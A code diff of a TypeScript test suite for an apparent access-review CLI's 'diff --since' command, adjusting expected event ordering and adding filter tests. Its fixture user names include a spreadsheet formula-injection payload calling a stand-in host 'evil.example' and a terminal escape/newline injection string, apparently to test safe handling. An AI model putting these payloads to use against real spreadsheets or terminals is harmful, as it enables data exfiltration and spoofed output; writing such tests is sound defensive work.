@@ -91,20 +91,18 @@ describe("diff --since", () => {
     expect([...new Set(document.events.map(({ seenAt }) => seenAt))]).toEqual(["2026-11-18T02:00:03.000Z"]);
     expect(document.passing).toEqual([
       {
-        kind: "access-gained",
-        who: { id: `user:${EVE}`, displayName: '=HYPERLINK("https://evil.example/?"&A1,"Eve Mallory")' },
-        resource: { id: `app:${AWS}`, displayName: "AWS Production" },
-        direction: "cameAndWent",
-        severity: "low",
-        from: "2026-11-17T02:00:03.000Z",
+        kind: "mfa-disabled",
+        severity: "high",
+        who: { id: `user:${DANA}`, displayName: "Dana \u001b[31mKim\u0007\r\nroot" },
+        from: "2026-11-18T02:00:03.000Z",
         to: "2026-11-19T02:00:03.000Z",
       },
       {
-        kind: "mfa-disabled",
-        who: { id: `user:${DANA}`, displayName: "Dana \u001b[31mKim\u0007\r\nroot" },
-        direction: "cameAndWent",
-        severity: "high",
-        from: "2026-11-18T02:00:03.000Z",
+        kind: "access-gained",
+        severity: "low",
+        who: { id: `user:${EVE}`, displayName: '=HYPERLINK("https://evil.example/?"&A1,"Eve Mallory")' },
+        resource: { id: `app:${AWS}`, displayName: "AWS Production" },
+        from: "2026-11-17T02:00:03.000Z",
         to: "2026-11-19T02:00:03.000Z",
       },
     ]);
@@ -124,6 +122,18 @@ describe("diff --since", () => {
     const calm = await diff("--since", "2026-11-19T12:00:00Z");
     expect(calm).toMatchObject({ code: 0, out: "" });
     expect((await diff("--since", "7d", "--fail-on", "mfa-disabled")).code).toBe(1);
+  });
+
+  it.each([
+    [["--severity", "high"], ["leaver-still-admin", "admin-added", "mfa-excluded"], ["mfa-disabled"], 1],
+    [["--only", "access-gained"], [], ["access-gained"], 1],
+    [["--only", "email-changed"], [], [], 0],
+  ])("with %j shows these events and these that came and went", async (flags, events, passing, code) => {
+    const seen = await diff("--since", "7d", "--format", "json", ...flags);
+    const document = diffDocumentSchema.parse(JSON.parse(seen.out));
+    expect(document.events.map(({ event }) => event)).toEqual(events);
+    expect(document.passing?.map(({ kind }) => kind)).toEqual(passing);
+    expect(seen.code).toBe(code);
   });
 
   it("says so where the folder has no two files since then", async () => {
